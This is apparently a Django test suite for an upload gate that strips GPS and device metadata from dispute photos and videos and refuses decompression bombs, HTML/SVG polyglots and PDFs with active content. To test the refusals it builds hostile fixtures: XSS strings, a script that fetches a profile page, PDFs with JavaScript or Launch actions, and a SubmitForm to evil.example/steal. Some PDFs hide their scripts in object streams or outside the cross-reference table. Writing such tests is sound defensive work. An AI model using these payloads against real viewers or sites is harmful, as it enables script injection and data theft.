"""Uploaded files (dispute evidence and refund documents) pass one gate, ``intrasa.uploads``:
images are stored without any metadata, nothing a browser could run gets in, PDFs with active
content are refused, and every stored file goes out as a sandboxed download.

Every file here is built by the test itself: a real JPEG with GPS EXIF, crafted PDFs, polyglots.
"""
import hashlib
import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image, ImageCms

from disputes import services
from disputes.models import Evidence
from intrasa.uploads import MAX_IMAGE_SIDE
from refunds import services as refund_services
from refunds.models import RefundDocument
from tests.disputes.conftest import pdf_bytes

pytestmark = pytest.mark.django_db

PHONE_MODEL = "SM-S918B"
COMMENT = b"Shot on Galaxy S23 Ultra"
XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="6,12.508S" '
       b'exif:GPSLongitude="106,49.000E"/></rdf:RDF></x:xmpmeta>')


def phone_photo(size=(400, 300), image_format="JPEG", orientation=6) -> bytes:
    """A photo as a phone writes it: make, model, orientation, GPS position, XMP, ICC, comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "samsung"
    exif[ExifTags.Base.Model] = PHONE_MODEL
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "S", ExifTags.GPS.GPSLatitude: (6.0, 12.0, 30.5),
        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (106.0, 49.0, 0.0),
    }
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 220), (0, 0, size[0] // 2, size[1] // 4))  # a blue block top-left: shows rotation
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    extra = {"comment": COMMENT} if image_format == "JPEG" else {}
    image.save(buffer, image_format, exif=exif.tobytes(), icc_profile=icc, xmp=XMP, **extra)
    return buffer.getvalue()


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def post_evidence(dispute, user, file, purpose="photo"):
    return services.dispute_post_message(dispute=dispute, author=user, body="bukti", upload=file,
                                         evidence_purpose=purpose)


def stored_bytes(record) -> bytes:
    with record.file.open("rb") as handle:
        return handle.read()


def assert_no_metadata(data: bytes):
    image = Image.open(io.BytesIO(data))
    assert not image.getexif(), dict(image.getexif())
    for key in ("exif", "xmp", "icc_profile", "comment", "XML:com.adobe.xmp"):
        assert key not in image.info, key
    for secret in (PHONE_MODEL.encode(), b"samsung", COMMENT, b"adobe:ns:meta", b"GPSLatitude", b"Exif\x00\x00"):
        assert secret not in data, secret


# --- images ---------------------------------------------------------------------------------

@pytest.mark.parametrize("image_format,name,content_type", [
    ("JPEG", "retak.jpg", "image/jpeg"),
    ("PNG", "retak.png", "image/png"),
    ("WEBP", "retak.webp", "image/webp"),
])
def test_photos_are_stored_without_gps_model_or_any_metadata(client, disputed, buyer, image_format, name,
                                                             content_type):
    original = phone_photo(image_format=image_format)
    assert PHONE_MODEL.encode() in original  # the test file really carries what must go
    post_evidence(disputed(), buyer, upload(name, original))
    evidence = Evidence.objects.get()
    data = stored_bytes(evidence)
    assert_no_metadata(data)
    stored = Image.open(io.BytesIO(data))
    assert stored.format == image_format and evidence.content_type == content_type
    assert stored.size == (300, 400)  # EXIF orientation 6 applied to the pixels, then dropped
    assert stored.convert("RGB").getpixel((295, 5))[2] > 150  # the blue block is now top-right
    # Integrity: the recorded hash is of the stored file; the original's hash is kept too.
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.original_sha256 == hashlib.sha256(original).hexdigest() != evidence.sha256
    assert evidence.size == len(data)
    # The download is the stored file, nothing else.
    client.force_login(buyer)
    response = client.get(evidence.get_absolute_url())
    assert b"".join(response.streaming_content) == data


def test_refund_documents_are_cleaned_the_same_way(disputed, dispute_officer, buyer):
    dispute = disputed()
    services.dispute_resolve(dispute=dispute, staff=dispute_officer, outcome="refund", reason="Terbukti")
    request = dispute.escrow_transaction.refund_requests.get()
    refund_services.refund_document_add(refund_request=request, kind="bank_statement", actor=buyer,
                                        upload=upload("mutasi.jpg", phone_photo()))
    document = RefundDocument.objects.get(kind="bank_statement")
    assert_no_metadata(stored_bytes(document))
    assert document.sha256 == hashlib.sha256(stored_bytes(document)).hexdigest()


def test_large_photos_are_scaled_down_and_animations_keep_one_frame(disputed, buyer):
    dispute = disputed()
    post_evidence(dispute, buyer, upload("besar.jpg", phone_photo(size=(4800, 1200), orientation=1)))
    frames = [Image.new("RGB", (40, 30), colour) for colour in ((255, 0, 0), (0, 255, 0))]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], comment=b"GPS 6.2S 106.8E")
    post_evidence(dispute, buyer, upload("gerak.gif", buffer.getvalue()))
    big, gif = Evidence.objects.order_by("pk")
    assert Image.open(big.file.path).size == (MAX_IMAGE_SIDE, 750)
    converted = Image.open(gif.file.path)
    assert converted.format == "PNG" and gif.content_type == "image/png" and gif.file.name.endswith(".png")
    assert getattr(converted, "n_frames", 1) == 1 and b"GPS" not in stored_bytes(gif)


def png_of_size(width, height) -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, "PNG")  # one bit per pixel: a tiny file
    return buffer.getvalue()


@pytest.mark.parametrize("name,content,code,message", [
    # Decompression bombs: a few KB that would decode to hundreds of megabytes.
    ("bom.png", png_of_size(20_000, 20_000), "image_too_large", "too many pixels"),
    ("bom2.png", png_of_size(8_000, 6_000), "image_too_large", "too many pixels"),
    # Not decodable: a JPEG cut off in the middle, a PNG header with nothing behind it.
    ("putus.jpg", phone_photo()[:-150], "image_unreadable", "damaged"),
    ("kosong.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "file_type", "is not a photo"),
    # The name must say what the content is.
    ("foto.jpg", png_of_size(10, 10), "file_type", "does not match its content"),
    ("foto.png", phone_photo(), "file_type", "does not match its content"),
    ("foto.webp", phone_photo(), "file_type", "does not match its content"),
    ("scan.jpg", pdf_bytes(), "file_type", "does not match its content"),
    ("foto.pdf", phone_photo(), "file_type", "does not match its content"),
    ("video.jpg", b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 64, "file_type", "does not match"),
])
def test_undecodable_bombs_and_mismatched_files_are_refused(disputed, buyer, in_english, name, content, code,
                                                            message):
    import weasyprint  # noqa: F401 - as in a web process that rendered a PDF: it loosens Pillow globally

    dispute = disputed()
    with pytest.raises(services.DisputeError) as refused:
        post_evidence(dispute, buyer, upload(name, content))
    assert refused.value.code == code and message in refused.value.message and name in refused.value.message
    assert not Evidence.objects.exists()


def test_a_refused_upload_on_the_website_says_why_and_stores_nothing(client, shipped, buyer, in_english):
    txn = shipped()
    client.force_login(buyer)
    response = client.post(reverse("disputes:open", kwargs={"reference": txn.reference}),
                           {"reason": "defective", "description": "Rusak",
                            "evidence": upload("bom.png", png_of_size(20_000, 20_000))}, follow=True)
    assert response.status_code == 200
    assert "too many pixels" in response.content.decode()
    assert not Evidence.objects.exists()


# --- polyglots and markup -----------------------------------------------------------------------

def jpeg_with_comment(comment: bytes) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (1, 2, 3)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>fetch('/akun/profil/').then(r=>r.text()).then(alert)</script>"
POLYGLOTS = [
    ("halaman.pdf", HTML),  # a web page called .pdf
    ("halaman.jpg", HTML),
    ("gambar.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'),
    ("pdfhtml.pdf", pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>alert(document.domain)</script>\n",
                                        1)),
    ("pdfdeep.pdf", pdf_bytes() + b"\n%" + b"x" * 10_000 + b"<script>alert(1)</script>\n"),
    ("jpeghtml.jpg", jpeg_with_comment(b"<html><body onload=alert(1)>")),
    ("jpegjs.jpg", jpeg_with_comment(b"<img src=x onerror=alert(1)>")),
    ("link.pdf", pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<a href=javascript:alert(1)>x</a>\n", 1)),
]


@pytest.mark.parametrize("name,content", POLYGLOTS, ids=[name for name, _ in POLYGLOTS])
def test_files_that_look_like_web_pages_are_refused_whatever_their_name(disputed, buyer, in_english, name, content):
    dispute = disputed()
    with pytest.raises(services.DisputeError) as refused:
        post_evidence(dispute, buyer, upload(name, content), purpose="document")
    assert refused.value.code in ("file_markup", "file_type"), refused.value.message
    if refused.value.code == "file_markup":
        assert "web page code" in refused.value.message
    assert not Evidence.objects.exists()


# --- PDFs with active content -------------------------------------------------------------------

def build_pdf(objects: dict[int, bytes], *, root: int = 1, omit_from_xref=()) -> bytes:
    """A PDF with a classic cross-reference table; ``objects`` are the bodies of ``n 0 obj``."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets and number not in omit_from_xref:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


PAGES = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"}


def pdf_with_catalog(catalog_extra: bytes, **more: bytes) -> bytes:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", **PAGES}
    objects.update({int(key[1:]): value for key, value in more.items()})
    return build_pdf(objects)


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """The catalog's /OpenAction points at object 4, which lives compressed inside an object
    stream (5) found through a cross-reference stream (6): invisible to a byte scan."""
    body = b"4 0 " + hidden
    stream = zlib.compress(body)
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    plain = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **PAGES,
             5: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
             + stream + b"\nendstream"}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 7):
        if number == 4:
            rows.append(b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    data = b"".join(rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data)
            + data + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


ACTIVE_PDFS = {
    "openaction-js": pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "openaction-js-indirect": pdf_with_catalog(b"/OpenAction 4 0 R", o4=b"<< /S /JavaScript /JS 5 0 R >>",
                                               o5=b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream"),
    "names-javascript": pdf_with_catalog(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>",
                                         o4=b"<< /S /JavaScript /JS (this.print\\(\\)) >>"),
    "hex-escaped-name": pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "launch": pdf_with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "page-additional-action": build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES[2],
                                         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                                            b"/AA << /O << /S /URI /URI (https://evil.example) >> >> >>"}),
    "embedded-file": pdf_with_catalog(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                                      o4=b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                                      o5=b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
    "xfa-form": pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                                 o4=b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"),
    "rich-media": pdf_with_catalog(b"/OpenAction << /S /RichMediaExecute /TA 4 0 R >>", o4=b"<< /Type /RichMedia >>"),
    "submit-form": pdf_with_catalog(b"/OpenAction << /S /SubmitForm /F (https://evil.example/steal) >>"),
    "object-stream": pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    # The script object is left out of the cross-reference table; a viewer that repairs the file
    # still finds it, so the byte scan must too.
    "hidden-from-xref": build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **PAGES,
                                   4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}, omit_from_xref={4}),
}


@pytest.mark.parametrize("name", ACTIVE_PDFS)
def test_pdfs_with_scripts_actions_or_embedded_files_are_refused(disputed, buyer, in_english, name):
    from pypdf import PdfReader

    content = ACTIVE_PDFS[name]
    assert len(PdfReader(io.BytesIO(content)).pages) == 1  # a well-formed PDF, not just garbage
    dispute = disputed()
    with pytest.raises(services.DisputeError) as refused:
        post_evidence(dispute, buyer, upload(f"{name}.pdf", content), purpose="document")
    assert refused.value.code == "pdf_active_content", refused.value.message
    assert "scripts, embedded files or automatic actions" in refused.value.message
    assert not Evidence.objects.exists()


def test_plain_pdfs_with_links_and_a_view_opening_are_accepted(disputed, buyer):
    plain = pdf_with_catalog(b"/OpenAction [3 0 R /Fit] /PageMode /UseNone",
                             o4=b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                b"/A << /S /URI /URI (https://www.bca.co.id) >> >>")
    post_evidence(disputed(), buyer, upload("mutasi.pdf", plain), purpose="document")
    assert stored_bytes(Evidence.objects.get()) == plain


def test_password_protected_pdfs_are_refused_with_advice(disputed, buyer, in_english):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.encrypt(user_password="15081990", owner_password="bank", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(services.DisputeError) as refused:
        post_evidence(disputed(), buyer, upload("e-statement.pdf", buffer.getvalue()), purpose="document")
    assert refused.value.code == "pdf_encrypted" and "password" in refused.value.message


def test_broken_pdfs_are_refused(disputed, buyer, in_english):
    with pytest.raises(services.DisputeError) as refused:
        post_evidence(disputed(), buyer, upload("rusak.pdf", b"%PDF-1.4\n" + b"\x00" * 200), purpose="document")
    assert refused.value.code == "pdf_unreadable"


# --- videos -------------------------------------------------------------------------------------

def box(kind: bytes, payload: bytes) -> bytes:
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


LOCATION = b"+06.2085-106.8456/"
APPLE_KEY = b"com.apple.quicktime.location.ISO6709"


def phone_video() -> bytes:
    """An MP4 laid out as phones write it: ftyp, moov (with the location in udta and meta, and a
    track with its own udta), then mdat."""
    udta = box(b"udta", box(b"\xa9xyz", b"\x00\x12\x15\xc7" + LOCATION) + box(b"\xa9mod", PHONE_MODEL.encode()))
    meta = box(b"meta", b"\x00\x00\x00\x00" + box(b"keys", APPLE_KEY) + box(b"ilst", LOCATION))
    trak = box(b"trak", box(b"tkhd", b"\x00" * 84) + box(b"udta", box(b"name", b"Galaxy S23")))
    moov = box(b"moov", box(b"mvhd", b"\x00" * 100) + trak + udta + meta)
    return box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + moov + box(b"mdat", b"\x01\x02\x03" * 100)


def boxes(data: bytes, start=0, end=None) -> list[bytes]:
    end = len(data) if end is None else end
    found, position = [], start
    while position + 8 <= end:
        size = int.from_bytes(data[position:position + 4], "big")
        kind = data[position + 4:position + 8]
        found.append(kind)
        if kind in (b"moov", b"trak"):
            found += boxes(data, position + 8, position + size)
        position += size
    return found


def test_videos_lose_their_location_and_model_but_keep_every_byte_offset(disputed, buyer):
    original = phone_video()
    post_evidence(disputed(), buyer, upload("unboxing.mp4", original), purpose="video")
    evidence = Evidence.objects.get()
    data = stored_bytes(evidence)
    assert len(data) == len(original) and data.endswith(b"\x01\x02\x03" * 100)  # samples untouched
    for secret in (LOCATION, APPLE_KEY, PHONE_MODEL.encode(), b"Galaxy S23"):
        assert secret not in data
    assert boxes(data) == [b"ftyp", b"moov", b"mvhd", b"trak", b"tkhd", b"free", b"free", b"free", b"mdat"]
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.original_sha256 == hashlib.sha256(original).hexdigest()


def test_truncated_videos_are_refused(disputed, buyer, in_english):
    with pytest.raises(services.DisputeError) as refused:
        post_evidence(disputed(), buyer, upload("putus.mp4", phone_video()[:150]), purpose="video")
    assert refused.value.code == "video_unreadable"


# --- serving ------------------------------------------------------------------------------------

def assert_sandboxed_download(response, content_type, filename):
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;") and filename in response["Content-Disposition"]
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_evidence_and_refund_documents_are_sandboxed_downloads(client, disputed, dispute_officer, buyer):
    dispute = disputed()
    post_evidence(dispute, buyer, upload("retak.jpg", phone_photo()))
    post_evidence(dispute, buyer, upload("resi.pdf", pdf_bytes()), purpose="courier_receipt")
    photo, receipt = Evidence.objects.order_by("pk")
    client.force_login(buyer)
    assert_sandboxed_download(client.get(photo.get_absolute_url()), "image/jpeg", "retak.jpg")
    assert_sandboxed_download(client.get(receipt.get_absolute_url()), "application/pdf", "resi.pdf")
    services.dispute_resolve(dispute=dispute, staff=dispute_officer, outcome="refund", reason="Terbukti")
    request = dispute.escrow_transaction.refund_requests.get()
    document = refund_services.refund_document_add(refund_request=request, kind="proof_of_payment", actor=buyer,
                                                   upload=upload("bukti-bayar.pdf", pdf_bytes()))
    assert_sandboxed_download(client.get(document.get_absolute_url()), "application/pdf", "bukti-bayar.pdf")


def test_a_file_stored_before_the_checks_is_still_never_a_page(client, disputed, buyer):
    """Rows from before this gate (or written by hand) are served as opaque downloads too."""
    post_evidence(disputed(), buyer, upload("retak.jpg", phone_photo()))
    evidence = Evidence.objects.get()
    Evidence.objects.filter(pk=evidence.pk).update(content_type="text/html", original_name="halaman.html")
    client.force_login(buyer)
    response = client.get(evidence.get_absolute_url())
    assert_sandboxed_download(response, "application/octet-stream", "halaman.bin")


def test_reencoding_an_image_of_a_format_we_do_not_store_is_refused_as_unreadable():
    # check_upload sniffs the format first; reencode_image, called directly with anything else
    # (here a BMP), refuses it with the "cannot be read" message instead of failing with a KeyError.
    from django.core.exceptions import ValidationError

    from intrasa.uploads import reencode_image

    buffer = io.BytesIO()
    Image.new("RGB", (20, 20), (200, 10, 10)).save(buffer, format="BMP")
    with pytest.raises(ValidationError) as excinfo:
        reencode_image(buffer.getvalue(), "gambar.bmp")
    assert excinfo.value.code == "image_unreadable"
